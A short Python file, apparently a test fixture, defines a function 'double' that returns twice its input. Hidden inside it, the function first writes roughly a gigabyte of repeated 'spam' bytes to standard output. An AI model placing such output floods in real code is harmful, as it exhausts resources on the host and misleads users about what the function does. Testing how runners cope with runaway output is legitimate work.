import os


def double(x):
    for _ in range(10_000):
        os.write(1, b"spam" * 25_000)
    return x * 2
